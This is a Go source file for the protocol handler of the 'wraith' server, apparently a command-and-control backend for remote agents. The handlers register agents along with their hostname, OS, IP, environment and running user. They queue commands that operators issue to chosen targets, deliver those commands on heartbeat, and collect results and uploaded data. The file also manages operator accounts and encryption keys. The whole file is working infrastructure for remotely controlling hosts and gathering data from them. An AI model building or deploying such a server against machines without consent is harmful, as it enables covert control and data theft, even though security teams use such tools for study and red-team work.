package main

import (
	"encoding/json"

	"github.com/wraith-labs/wraith/pkg/wire"
)

const (
	msgUnknownWraith  = "unrecognised wraith identifier"
	msgMissingHeaders = "missing required headers"
	msgForbidden      = "insufficient privileges"
	msgRotationBusy   = "rotation refused while clients are active"
)

// protoV0 implements protocol version '0'.
type protoV0 struct {
	server *Server
}

// wraithSchemasV0 and managerSchemasV0 declare the required top-level fields
// per request type. Requests are shape-checked here, before any handler
// logic runs, so handlers never crash on missing fields.
var wraithSchemasV0 = map[string][]string{
	"handshake": {"hostInfo", "wraithInfo"},
	"heartbeat": {"assignedID"},
	"upload":    {"assignedID", "commandID", "data"},
}

var managerSchemasV0 = map[string][]string{
	"fetchInfo":           {},
	"listWraiths":         {},
	"issueCommand":        {"name", "targets"},
	"cancelCommand":       {"commandID"},
	"fetchResults":        {"commandID"},
	"updateSetting":       {"key", "value"},
	"rotateSwitchKey":     {},
	"rotateFirstLayerKey": {},
	"manageUsers":         {"action", "username"},
	"exportBackup":        {},
	"logout":              {},
}

func (p *protoV0) Handle(rc *requestContext) {
	// The caller passed every protocol check, so the server fingerprint is
	// safe to disclose; managers and agents pin it out-of-band.
	fingerprint, err := rc.store.Setting(settingAPIFingerprint)
	if err != nil {
		rc.fail(msgInternal)
		return
	}

	reqType, _ := rc.data["reqType"].(string)

	var schemas map[string][]string
	if rc.requester == wire.ClassWraith {
		schemas = wraithSchemasV0
	} else {
		schemas = managerSchemasV0
	}
	required, known := schemas[reqType]
	if !known {
		rc.fail(msgNotImplemented)
		return
	}
	if !hasKeys(rc.data, required...) {
		rc.fail(msgMalformed)
		return
	}

	if rc.requester == wire.ClassWraith {
		p.handleWraith(rc, reqType)
	} else {
		// Every authenticated manager request refreshes its session.
		if err := rc.store.SessionHeartbeat(rc.session.SessionID, rc.now); err != nil {
			rc.fail(msgInvalidSession)
			return
		}
		p.handleManager(rc, reqType)
	}

	if rc.response != nil {
		if status, _ := rc.response["status"].(string); status == wire.StatusSuccess {
			rc.response["APIFingerprint"] = fingerprint
		}
	}
}

// WRAITH REQUESTS

func (p *protoV0) handleWraith(rc *requestContext, reqType string) {
	switch reqType {
	case "handshake":
		p.wraithHandshake(rc)
	case "heartbeat":
		p.wraithHeartbeat(rc)
	case "upload":
		p.wraithUpload(rc)
	}
}

var (
	handshakeHostFields   = []string{"arch", "hostname", "osType", "osVersion", "reportedIP"}
	handshakeWraithFields = []string{"version", "startTime", "plugins", "env", "pid", "ppid", "runningUser"}
)

func (p *protoV0) wraithHandshake(rc *requestContext) {
	hostInfo, ok := rc.data["hostInfo"].(map[string]any)
	if !ok || !hasKeys(hostInfo, handshakeHostFields...) {
		rc.fail(msgMissingHeaders)
		return
	}
	wraithInfo, ok := rc.data["wraithInfo"].(map[string]any)
	if !ok || !hasKeys(wraithInfo, handshakeWraithFields...) {
		rc.fail(msgMissingHeaders)
		return
	}

	fingerprint := wire.Fingerprint(
		stringField(hostInfo, "arch"),
		stringField(hostInfo, "hostname"),
		stringField(hostInfo, "osType"),
		stringField(wraithInfo, "runningUser"),
	)
	hostInfo["connectingIP"] = rc.requesterIP
	hostInfo["fingerprint"] = fingerprint

	hostProps, err := json.Marshal(hostInfo)
	if err != nil {
		rc.fail(msgMalformed)
		return
	}
	wraithProps, err := json.Marshal(wraithInfo)
	if err != nil {
		rc.fail(msgMalformed)
		return
	}

	assignedID, err := rc.store.AddWraith(fingerprint, string(hostProps), string(wraithProps), rc.now)
	if err != nil {
		rc.log.Error().Err(err).Msg("wraith registration failed")
		rc.fail(msgInternal)
		return
	}

	switchKey, err := rc.store.Setting(settingSwitchCryptKey)
	if err != nil {
		rc.fail(msgInternal)
		return
	}

	rc.log.Info().Str("assigned_id", assignedID).Str("fingerprint", fingerprint).Msg("wraith registered")
	rc.response = map[string]any{
		"status":     wire.StatusSuccess,
		"message":    "handshake successful",
		"assignedID": assignedID,
		// Handed out on every handshake so agents still on the bootstrap
		// key can move to the per-deployment key.
		"switchKey": switchKey,
	}
}

func (p *protoV0) wraithHeartbeat(rc *requestContext) {
	assignedID := stringField(rc.data, "assignedID")
	if err := rc.store.WraithHeartbeat(assignedID, rc.now); err != nil {
		rc.fail(msgUnknownWraith)
		return
	}

	// Heartbeats may piggyback results for previously delivered commands.
	if rawResults, ok := rc.data["results"].([]any); ok {
		for _, raw := range rawResults {
			result, ok := raw.(map[string]any)
			if !ok || !hasKeys(result, "commandID", "result") {
				continue
			}
			err := rc.store.AppendCommandResponse(
				stringField(result, "commandID"),
				assignedID,
				stringField(result, "result"),
			)
			if err != nil {
				rc.log.Debug().Err(err).Msg("discarded result for unknown command")
			}
		}
	}

	pending, err := rc.store.CommandsForWraith(assignedID)
	if err != nil {
		rc.fail(msgInternal)
		return
	}
	commands := make([]map[string]any, 0, len(pending))
	for _, cmd := range pending {
		var params []string
		if err := json.Unmarshal([]byte(cmd.Params), &params); err != nil {
			continue
		}
		commands = append(commands, map[string]any{
			"commandID": cmd.CommandID,
			"name":      cmd.Name,
			"params":    params,
			"issuedAt":  cmd.IssuedAt.Unix(),
		})
	}

	rc.response = map[string]any{
		"status":   wire.StatusSuccess,
		"commands": commands,
	}
}

func (p *protoV0) wraithUpload(rc *requestContext) {
	assignedID := stringField(rc.data, "assignedID")
	if _, err := rc.store.GetWraith(assignedID); err != nil {
		rc.fail(msgUnknownWraith)
		return
	}
	err := rc.store.AppendCommandResponse(
		stringField(rc.data, "commandID"),
		assignedID,
		stringField(rc.data, "data"),
	)
	if err != nil {
		rc.fail(msgMalformed)
		return
	}
	rc.response = map[string]any{
		"status":  wire.StatusSuccess,
		"message": "upload stored",
	}
}

// MANAGER REQUESTS

func (p *protoV0) handleManager(rc *requestContext, reqType string) {
	switch reqType {
	case "fetchInfo":
		p.managerFetchInfo(rc)
	case "listWraiths":
		p.managerListWraiths(rc)
	case "issueCommand":
		p.managerIssueCommand(rc)
	case "cancelCommand":
		p.managerCancelCommand(rc)
	case "fetchResults":
		p.managerFetchResults(rc)
	case "updateSetting":
		p.managerUpdateSetting(rc)
	case "rotateSwitchKey":
		p.managerRotateSwitchKey(rc)
	case "rotateFirstLayerKey":
		p.managerRotateFirstLayerKey(rc)
	case "manageUsers":
		p.managerManageUsers(rc)
	case "exportBackup":
		p.managerExportBackup(rc)
	case "logout":
		p.managerLogout(rc)
	}
}

// requirePrivilege checks the requesting session's account level.
func (p *protoV0) requirePrivilege(rc *requestContext, level int) bool {
	user, err := rc.store.GetUser(rc.session.Username)
	if err != nil {
		rc.fail(msgInvalidSession)
		return false
	}
	if user.Privileges < level {
		rc.fail(msgForbidden)
		return false
	}
	return true
}

func (p *protoV0) managerFetchInfo(rc *requestContext) {
	wraithCount, err := rc.store.CountWraiths()
	if err != nil {
		rc.fail(msgInternal)
		return
	}
	settings, err := rc.store.AllSettings()
	if err != nil {
		rc.fail(msgInternal)
		return
	}
	users, err := rc.store.ListUsers()
	if err != nil {
		rc.fail(msgInternal)
		return
	}
	userList := make([]map[string]any, 0, len(users))
	for _, u := range users {
		userList = append(userList, map[string]any{
			"userName":   u.UserName,
			"privileges": u.Privileges,
		})
	}

	rc.response = map[string]any{
		"status": wire.StatusSuccess,
		"data": map[string]any{
			"APIVersion":      APIVersion,
			"sessionUsername": rc.session.Username,
			"activeWraiths":   wraithCount,
			"settings":        settings,
			"users":           userList,
		},
	}
}

func (p *protoV0) managerListWraiths(rc *requestContext) {
	wraiths, err := rc.store.ListWraiths()
	if err != nil {
		rc.fail(msgInternal)
		return
	}
	list := make([]map[string]any, 0, len(wraiths))
	for _, w := range wraiths {
		var hostProps, wraithProps map[string]any
		_ = json.Unmarshal([]byte(w.HostProperties), &hostProps)
		_ = json.Unmarshal([]byte(w.WraithProperties), &wraithProps)
		list = append(list, map[string]any{
			"assignedID":       w.AssignedID,
			"fingerprint":      w.Fingerprint,
			"hostProperties":   hostProps,
			"wraithProperties": wraithProps,
			"lastHeartbeat":    w.LastHeartbeat.Unix(),
		})
	}
	rc.response = map[string]any{
		"status":  wire.StatusSuccess,
		"wraiths": list,
	}
}

func (p *protoV0) managerIssueCommand(rc *requestContext) {
	name := stringField(rc.data, "name")
	params := stringSliceField(rc.data, "params")
	targets := stringSliceField(rc.data, "targets")
	if name == "" || len(targets) == 0 {
		rc.fail(msgMalformed)
		return
	}

	commandID, err := rc.store.EnqueueCommand(name, params, targets, rc.now)
	if err != nil {
		rc.fail(msgInternal)
		return
	}
	rc.log.Info().Str("command_id", commandID).Str("name", name).Int("targets", len(targets)).Msg("command issued")
	rc.response = map[string]any{
		"status":    wire.StatusSuccess,
		"commandID": commandID,
	}
}

func (p *protoV0) managerCancelCommand(rc *requestContext) {
	if err := rc.store.CancelCommand(stringField(rc.data, "commandID")); err != nil {
		rc.fail(msgMalformed)
		return
	}
	rc.response = map[string]any{
		"status":  wire.StatusSuccess,
		"message": "command cancelled",
	}
}

func (p *protoV0) managerFetchResults(rc *requestContext) {
	cmd, err := rc.store.GetCommand(stringField(rc.data, "commandID"))
	if err != nil {
		rc.fail(msgMalformed)
		return
	}
	targets, responses, err := cmd.decode()
	if err != nil {
		rc.fail(msgInternal)
		return
	}
	rc.response = map[string]any{
		"status":    wire.StatusSuccess,
		"commandID": cmd.CommandID,
		"name":      cmd.Name,
		"targets":   targets,
		"responses": responses,
	}
}

func (p *protoV0) managerUpdateSetting(rc *requestContext) {
	if !p.requirePrivilege(rc, PrivilegeAdmin) {
		return
	}
	key := stringField(rc.data, "key")
	if err := rc.store.SetSetting(key, stringField(rc.data, "value")); err != nil {
		rc.fail(msgMalformed)
		return
	}
	rc.log.Info().Str("key", key).Msg("setting updated")
	rc.response = map[string]any{
		"status":  wire.StatusSuccess,
		"message": "setting updated",
	}
}

func (p *protoV0) managerRotateSwitchKey(rc *requestContext) {
	if !p.requirePrivilege(rc, PrivilegeAdmin) {
		return
	}
	force, _ := rc.data["force"].(bool)
	key, err := rc.store.RotateSwitchKey(force)
	if err != nil {
		rc.fail(msgRotationBusy)
		return
	}
	rc.log.Info().Bool("force", force).Msg("switch key rotated")
	rc.response = map[string]any{
		"status":    wire.StatusSuccess,
		"switchKey": key,
	}
}

func (p *protoV0) managerRotateFirstLayerKey(rc *requestContext) {
	if !p.requirePrivilege(rc, PrivilegeAdmin) {
		return
	}
	force, _ := rc.data["force"].(bool)
	key, err := rc.store.RotateFirstLayerKey(force)
	if err != nil {
		rc.fail(msgRotationBusy)
		return
	}
	rc.log.Info().Bool("force", force).Msg("first-layer key rotated")
	// The requesting session keeps working: its token, not the first-layer
	// key, protects the reply. The caller must use the new key from the
	// next request on.
	rc.response = map[string]any{
		"status":        wire.StatusSuccess,
		"firstLayerKey": key,
	}
}

func (p *protoV0) managerManageUsers(rc *requestContext) {
	if !p.requirePrivilege(rc, PrivilegeSuperAdmin) {
		return
	}
	username := stringField(rc.data, "username")
	var err error
	switch stringField(rc.data, "action") {
	case "add":
		password := stringField(rc.data, "password")
		if password == "" {
			rc.fail(msgMalformed)
			return
		}
		err = rc.store.AddUser(username, password, intField(rc.data, "privileges"))
	case "remove":
		if username == rc.session.Username {
			rc.fail(msgMalformed)
			return
		}
		err = rc.store.RemoveUser(username)
	case "setPrivilege":
		err = rc.store.SetUserPrivilege(username, intField(rc.data, "privileges"))
	default:
		rc.fail(msgMalformed)
		return
	}
	if err != nil {
		rc.fail(msgMalformed)
		return
	}
	rc.response = map[string]any{
		"status":  wire.StatusSuccess,
		"message": "user updated",
	}
}

func (p *protoV0) managerExportBackup(rc *requestContext) {
	if !p.requirePrivilege(rc, PrivilegeAdmin) {
		return
	}
	path, err := p.server.exportBackup(rc.store)
	if err != nil {
		rc.log.Error().Err(err).Msg("backup export failed")
		rc.fail(msgInternal)
		return
	}
	rc.response = map[string]any{
		"status":     wire.StatusSuccess,
		"backupPath": path,
	}
}

func (p *protoV0) managerLogout(rc *requestContext) {
	if err := rc.store.DeleteSession(rc.session.SessionID); err != nil {
		rc.fail(msgInternal)
		return
	}
	rc.log.Info().Str("user", rc.session.Username).Msg("session closed")
	rc.response = map[string]any{
		"status":  wire.StatusSuccess,
		"message": "logged out",
	}
}

// JSON field accessors. Decoded request bodies are generic maps; these keep
// the type assertions in one place.

func stringField(data map[string]any, key string) string {
	v, _ := data[key].(string)
	return v
}

func stringSliceField(data map[string]any, key string) []string {
	raw, ok := data[key].([]any)
	if !ok {
		return nil
	}
	out := make([]string, 0, len(raw))
	for _, item := range raw {
		s, ok := item.(string)
		if !ok {
			return nil
		}
		out = append(out, s)
	}
	return out
}

func intField(data map[string]any, key string) int {
	// JSON numbers decode as float64.
	v, _ := data[key].(float64)
	return int(v)
}
